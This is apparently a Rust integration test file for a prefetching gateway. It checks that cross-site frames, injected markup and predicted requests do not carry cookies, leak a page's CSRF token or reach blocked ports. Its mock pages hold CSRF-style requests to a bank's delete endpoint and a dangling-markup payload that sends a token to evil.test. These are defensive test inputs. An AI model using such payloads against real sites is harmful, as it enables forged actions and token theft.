//! Requests that frames of other sites, or markup injected into a page, cause at the gateway.
use std::{
    collections::BTreeSet,
    net::SocketAddr,
    sync::{
        Arc,
        atomic::{AtomicUsize, Ordering},
    },
    time::Duration,
};

use anyhow::{Context, Result};
use bytes::Bytes;
use http::{Request, Response, StatusCode, header};
use http_body_util::{BodyExt, Full};
use hyper::body::Incoming;
use longhaul_chromium::{Browser, BrowserOptions, LoadOptions, Names};
use longhaul_tests::{
    authority::{self, TestAuthority},
    origin::{AnswerBody, Origin, Seen},
};
use rcgen::KeyPair;
use tempfile::NamedTempFile;

use crate::pair::{Pair, Setup};

/// Maximum duration of a page load.
const LOAD_LIMIT: Duration = Duration::from_secs(60);
/// A 1 x 1 pixel GIF.
const PIXEL: &[u8] = b"GIF89a\x01\0\x01\0\x80\0\0\0\0\0\xff\xff\xff!\xf9\x04\x01\0\0\0\0,\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0;";
/// The user's bank, which embeds frames of the other hosts.
const HOSTS: [&str; 3] = ["bank.test", "evil.test", "third.test"];

/// The response of a host; `SCHEME` in it stands for the page's scheme.
struct Answer {
    status: StatusCode,
    media: &'static str,
    body: &'static [u8],
    fields: &'static [(&'static str, &'static str)],
}

const fn html(body: &'static str) -> Answer {
    Answer {
        status: StatusCode::OK,
        media: "text/html; charset=utf-8",
        body: body.as_bytes(),
        fields: &[],
    }
}

const fn with(answer: Answer, fields: &'static [(&'static str, &'static str)]) -> Answer {
    Answer { fields, ..answer }
}

const fn redirect(fields: &'static [(&'static str, &'static str)]) -> Answer {
    Answer {
        status: StatusCode::FOUND,
        media: "text/plain",
        body: b"",
        fields,
    }
}

fn resource(host: &str, path: &str) -> Answer {
    match (host, path) {
        ("bank.test", "/login") => with(
            html("<!doctype html><link rel=icon href=data:,>in"),
            &[("set-cookie", "session=secret; Path=/; HttpOnly; SameSite=Lax")],
        ),
        ("bank.test", "/") => html(
            "<!doctype html><link rel=icon href=data:,><h1>Bank</h1><img src=/own.gif>
            <iframe src=SCHEME://evil.test/frame></iframe><iframe src=SCHEME://third.test/frame></iframe>
            <iframe sandbox src=/boxed></iframe>",
        ),
        ("evil.test", "/frame") => html(
            "<!doctype html><link rel=stylesheet href=/evil.css><p>evil<img src=SCHEME://bank.test/delete?by=image>
            <img src=/turn><iframe src=SCHEME://bank.test/inner></iframe>
            <iframe src=SCHEME://third.test/frame></iframe>",
        ),
        ("evil.test", "/evil.css") => Answer {
            media: "text/css",
            ..html(
                "@font-face { font-family: f; src: url(SCHEME://bank.test/delete?by=font) }
                p { font-family: f; background: url(SCHEME://bank.test/delete?by=sheet) }",
            )
        },
        ("evil.test", "/turn") => redirect(&[("location", "SCHEME://bank.test/delete?by=turn")]),
        ("third.test", "/frame") => html("<!doctype html><img src=SCHEME://bank.test/delete?by=third>"),
        ("bank.test", "/inner") => html("<!doctype html><img src=/delete?by=inner>"),
        ("bank.test", "/boxed") => html("<!doctype html><img src=/delete?by=boxed>"),
        ("bank.test", "/strict") => with(
            html(STRICT),
            &[(
                "content-security-policy",
                "default-src 'none'; img-src 'self'; script-src 'nonce-right'; style-src 'self'; base-uri 'none'",
            )],
        ),
        ("bank.test", "/lines") => html(UNCLOSED),
        ("bank.test", "/own.css") => Answer {
            media: "text/css",
            ..html("p { background: url(SCHEME://evil.test/by-sheet.gif) } h1 { background: url(/of-sheet.gif) }")
        },
        (_, path) if path.ends_with(".js") => Answer {
            media: "text/javascript",
            ..html("1")
        },
        ("bank.test", "/~alice/") => with(
            html("<!doctype html><link rel=icon href=data:,><img src=own.gif><img src=/~mallory/log.gif>
            <img src=http://bank.test:25/x><img src=http://bank.test:6667/x>"),
            &[("set-cookie", "alice=secret; Path=/~alice")],
        ),
        _ => Answer {
            media: "image/gif",
            body: PIXEL,
            ..html("")
        },
    }
}

/// A page with a strict Content Security Policy and injected markup.
const STRICT: &str = "<!doctype html><link rel=icon href=data:,><h1>Strict</h1><link rel=stylesheet href=/own.css>
    <base href=SCHEME://evil.test/><img src=own.gif><script nonce=right src=SCHEME://bank.test/own.js></script>
    <p>injected: <script src=SCHEME://evil.test/evil.js></script><link rel=stylesheet href=SCHEME://evil.test/evil.css>
    <iframe src=SCHEME://evil.test/frame></iframe><style>p { background: url(SCHEME://bank.test/inline.gif) }</style>
    <img src='SCHEME://evil.test/log?<input name=csrf value=TOKEN><b title=''>";
/// A page without policy, with an injected image element that is not closed.
const UNCLOSED: &str = "<!doctype html><link rel=icon href=data:,><h1>Lines</h1><img src=/own.gif>
    <p>injected: <img src='SCHEME://evil.test/log?
    <input name=csrf value=TOKEN><b title=''>";

fn answer(scheme: &str, request: &Request<Incoming>) -> Response<AnswerBody> {
    let host = request.headers().get(header::HOST);
    let host = host.and_then(|host| host.to_str().ok()).unwrap_or_default();
    let Answer {
        status,
        media,
        body,
        fields,
    } = resource(host, request.uri().path());
    let body = match std::str::from_utf8(body) {
        Ok(text) => Bytes::from(text.replace("SCHEME", scheme)),
        Err(_) => Bytes::from_static(body),
    };
    let body = Full::new(body).map_err(|never| match never {}).boxed_unsync();
    let mut response = Response::builder()
        .status(status)
        .header(header::CONTENT_TYPE, media);
    for (name, value) in fields {
        response = response.header(*name, value.replace("SCHEME", scheme));
    }
    response.body(body).expect("a valid response")
}

/// The hosts, a pair, and a browser in which the user is logged in.
struct Scenario {
    scheme: &'static str,
    origin: Origin,
    authority: TestAuthority,
    pair: Pair,
    browser: Browser,
    _trusted: NamedTempFile,
}

impl Scenario {
    async fn start(scheme: &'static str, more: &[(&str, SocketAddr)]) -> Result<Self> {
        let authority = TestAuthority::new()?;
        let is_secure = scheme == "https";
        let tls = if is_secure {
            Some(authority.server(&HOSTS)?)
        } else {
            None
        };
        let origin = Origin::start(
            tls,
            |_| {},
            move |request| {
                let response = answer(scheme, &request);
                async move { response }
            },
        )
        .await?;
        let port = if is_secure { 443 } else { 80 };
        let names = HOSTS.map(|host| format!("{host}:{port}"));
        let mut resolved: Vec<_> = names
            .iter()
            .map(|name| (name.as_str(), origin.address()))
            .collect();
        resolved.extend_from_slice(more);
        let trusted = NamedTempFile::new()?;
        std::fs::write(trusted.path(), authority.pem())?;
        let mut setup = Setup::resolving(&resolved);
        setup.gateway_config = format!(
            "{}\n[fetch]\nextra-ca = ['{}']\n",
            setup.gateway_config,
            trusted.path().display()
        );
        setup
            .agent_arguments
            .extend(["--https-accelerate".to_owned(), HOSTS.join(",")]);
        let pair = Pair::start(setup).await?;
        let mut options = BrowserOptions::behind(pair.proxy());
        let key = std::fs::read_to_string(pair.folder().join("agent/ca.key"))?;
        options.trust_spki = vec![authority::pin(&KeyPair::from_pem(&key)?)];
        let browser = Browser::start(&options).await?;
        let mut world = Self {
            scheme,
            origin,
            authority,
            pair,
            browser,
            _trusted: trusted,
        };
        world.load("bank.test/login").await?;
        Ok(world)
    }

    async fn load(&mut self, page: &str) -> Result<()> {
        let url = format!("{}://{page}", self.scheme);
        self.browser.load(&url, &LoadOptions::within(LOAD_LIMIT)).await?;
        Ok(())
    }

    /// Requests at the hosts when a browser without a pair loads a page.
    async fn requests_without_pair(&self, page: &str) -> Result<BTreeSet<String>> {
        let mut options = BrowserOptions {
            trust_spki: vec![self.authority.pin().to_owned()],
            ..BrowserOptions::default()
        };
        let at = self.origin.address().to_string();
        let fixed = HOSTS.map(|host| (host.to_owned(), at.clone())).to_vec();
        options.names = Names {
            fixed,
            ..Names::default()
        };
        let before = self.origin.seen().len();
        let mut browser = Browser::start(&options).await?;
        let url = format!("{}://{page}", self.scheme);
        browser.load(&url, &LoadOptions::within(LOAD_LIMIT)).await?;
        browser.close().await;
        Ok(self.requested_since(before))
    }

    /// Requests at the hosts after the first `before` ones.
    fn requested_since(&self, before: usize) -> BTreeSet<String> {
        let seen = self.origin.seen();
        let later = seen.get(before..).unwrap_or_default();
        later
            .iter()
            .map(|seen| format!("{}{}", seen.host, seen.path))
            .collect()
    }
}

fn field<'a>(seen: &'a Seen, name: &str) -> &'a str {
    let value = seen.headers.get(name).and_then(|value| value.to_str().ok());
    value.unwrap_or("none")
}

/// A page with cross-site frames, loaded twice: the gateway requests their objects with the fields that the
/// browser would use.
async fn check_frames(scheme: &'static str) -> Result<()> {
    let mut world = Scenario::start(scheme, &[]).await?;
    for _ in 0..2 {
        world.load("bank.test/").await?;
    }
    let seen = world.origin.seen();
    let own = seen
        .iter()
        .find(|seen| seen.path == "/own.gif")
        .context("the image of the page was not requested")?;
    assert_eq!(field(own, "cookie"), "session=secret");
    assert!(
        seen.iter()
            .any(|seen| seen.host == "evil.test" && seen.path == "/frame")
    );
    let attacked: Vec<&Seen> = seen
        .iter()
        .filter(|seen| seen.path.starts_with("/delete"))
        .collect();
    let ways: BTreeSet<&str> = attacked.iter().map(|seen| seen.path.as_str()).collect();
    assert!(
        ways.len() >= 5,
        "the browser requests it itself, without cookies: {ways:?}"
    );
    for request in attacked {
        assert_eq!(field(request, "cookie"), "none", "{request:#?}");
        // Only a document of the bank inside of a cross-site frame is same-origin with the target.
        if request.path != "/delete?by=inner" {
            assert_ne!(field(request, "sec-fetch-site"), "same-origin", "{request:#?}");
        }
    }
    let status = world.pair.status().await?;
    assert!(status["pushed_objects"].as_u64() >= Some(1), "{status}");
    Ok(())
}

#[tokio::test(flavor = "multi_thread")]
async fn objects_of_cross_site_frames_are_requested_without_cookies_over_https() -> Result<()> {
    check_frames("https").await
}

#[tokio::test(flavor = "multi_thread")]
async fn objects_of_cross_site_frames_are_requested_without_cookies_over_http() -> Result<()> {
    check_frames("http").await
}

/// The pair causes the same requests as a browser without a pair, and a token in the page is not sent
/// anywhere.
async fn check_injected_markup(scheme: &'static str) -> Result<()> {
    let mut world = Scenario::start(scheme, &[]).await?;
    for (page, least) in [("bank.test/strict", 3), ("bank.test/lines", 2)] {
        let direct = world.requests_without_pair(page).await?;
        assert!(direct.len() >= least, "{direct:?}");
        for visit in 0..2 {
            let before = world.origin.seen().len();
            world.load(page).await?;
            let asked = world.requested_since(before);
            let foreign: Vec<_> = asked.difference(&direct).collect();
            assert!(
                foreign.is_empty(),
                "visit {visit} of {page}: {foreign:?}, directly {direct:?}"
            );
            if visit == 0 {
                assert_eq!(asked, direct, "{page}");
            }
        }
    }
    let seen = world.origin.seen();
    assert!(
        seen.iter()
            .all(|seen| !seen.path.contains("TOKEN") && seen.host != "evil.test"),
        "{seen:#?}"
    );
    Ok(())
}

#[tokio::test(flavor = "multi_thread")]
async fn injected_markup_does_not_leak_the_page_over_https() -> Result<()> {
    check_injected_markup("https").await
}

#[tokio::test(flavor = "multi_thread")]
async fn injected_markup_does_not_leak_the_page_over_http() -> Result<()> {
    check_injected_markup("http").await
}

#[tokio::test(flavor = "multi_thread")]
async fn predicted_requests_respect_cookie_paths_and_blocked_ports() -> Result<()> {
    let callers = Arc::new(AtomicUsize::new(0));
    let counted = Arc::clone(&callers);
    let mail = Origin::start(
        None,
        move |_| {
            counted.fetch_add(1, Ordering::Relaxed);
        },
        |request| async move { answer("http", &request) },
    )
    .await?;
    let ports = [
        ("bank.test:25", mail.address()),
        ("bank.test:6667", mail.address()),
    ];
    let mut world = Scenario::start("http", &ports).await?;
    for _ in 0..2 {
        world.load("bank.test/~alice/").await?;
    }
    let seen = world.origin.seen();
    let of = |path: &str| -> Vec<&str> {
        let found = seen.iter().filter(|seen| seen.path == path);
        found.map(|seen| field(seen, "cookie")).collect()
    };
    let to_mallory = of("/~mallory/log.gif");
    assert!(!to_mallory.is_empty());
    assert!(
        to_mallory.iter().all(|cookie| !cookie.contains("alice")),
        "{to_mallory:?}"
    );
    let to_alice = of("/~alice/own.gif");
    assert!(
        to_alice.iter().all(|cookie| cookie.contains("alice=secret")),
        "{to_alice:?}"
    );
    assert_eq!(
        callers.load(Ordering::Relaxed),
        0,
        "the gateway connected to a blocked port"
    );
    Ok(())
}
